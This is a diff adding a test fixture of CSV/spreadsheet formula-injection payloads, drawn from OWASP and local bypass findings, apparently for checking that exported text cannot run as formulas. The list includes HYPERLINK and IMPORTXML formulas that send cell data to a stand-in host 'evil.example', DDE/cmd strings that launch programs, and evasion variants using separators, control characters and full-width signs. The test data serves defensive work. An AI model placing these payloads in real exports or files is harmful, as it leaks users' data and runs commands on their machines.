@@ -185,3 +185,51 @@ def assert_inert_markdown(markdown: str) -> None:
     for url in re.findall(r"\]\(\s*<?([^)\s>]*)", masked):
         assert not url.lower().startswith(CODE_SCHEMES), url
     assert not re.search(r"<\s*(javascript|data|vbscript):", masked, re.IGNORECASE), markdown
+
+
+# ------------------------------------------------------------------------ spreadsheet formulas
+
+# What a spreadsheet could run as a formula: OWASP's "CSV Injection" examples, and the ways around
+# a check of the first character that were found here (a list separator inside the text, a line
+# break, a control character, white space or a quote before the formula, full-width signs).
+FORMULA_PAYLOADS: tuple[str, ...] = (
+    # OWASP, https://owasp.org/www-community/attacks/CSV_Injection
+    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
+    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet!A2:E2")',
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n-3+3+cmd|' /C calc'!D2",
+    ";-3+3+cmd|' /C calc'!D2",
+    # Inside the text, where another list separator would start a cell
+    "Utveckling av området,=cmd|' /C calc'!A0,i Söderort",
+    "Utveckling av området;=cmd|' /C calc'!A0;i Söderort",
+    "Utveckling av området\t=cmd|' /C calc'!A0\ti Söderort",
+    "Rad ett\n=1+1",
+    "Rad ett\r\n@SUM(A1:A2)",
+    'Ett, "=1+1"',
+    # Before the formula: control characters, white space, quotes
+    "\x01=1+1",
+    "\x00\x1f=1+1",
+    "\x7f=1+1",
+    "\x85=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    '"=1+1',
+    "'=1+1",
+    "\" '=1+1",
+    "\u201c=1+1",
+    # Full-width signs
+    "\uff1d1+1",
+    "\uff0b1+1",
+)
